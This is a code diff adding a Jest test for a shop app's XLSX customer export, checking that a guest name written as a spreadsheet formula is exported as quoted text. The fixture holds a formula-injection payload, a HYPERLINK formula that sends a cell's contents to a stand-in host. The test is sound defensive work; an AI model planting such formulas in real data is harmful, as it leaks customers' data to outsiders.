@@ -181,6 +181,21 @@ describe('messages', () => {
 });
 
 describe('customer list', () => {
+  test("a guest's name that a spreadsheet would run as a formula is exported as text behind a quote; numbers keep their look", async () => {
+    const { owner, store } = await shopOf();
+    const link = '=HYPERLINK("https://evil.example/?"&B2,"Ayşe")';
+    await guestOf(owner, store.id, link, false);
+    const xlsx = await t.raw(owner.token, c.exportUserReport, { storeId: store.id, language: 'en' });
+    const book = new ExcelJS.Workbook();
+    await book.xlsx.load(xlsx.rawPayload as unknown as ArrayBuffer);
+    const row = book.getWorksheet('Customers')!.getRow(2);
+    expect(row.getCell(1).value).toBe(`'${link}`);
+    expect(row.getCell(1).type).toBe(ExcelJS.ValueType.String);
+    // The phone number (a sign and digits only) stays as the screen shows it.
+    expect(row.getCell(2).value).toMatch(/^\+90 \d{3} \d{3} \d{2} \d{2}$/);
+    expect(row.getCell(3).value).toBe(1);
+  });
+
   test('filters by segment (lapsed), last visit and search; exports; staff without customers.view are refused', async () => {
     at(istanbul('2031-01-01', '12:00'));
     const { owner, store } = await shopOf();
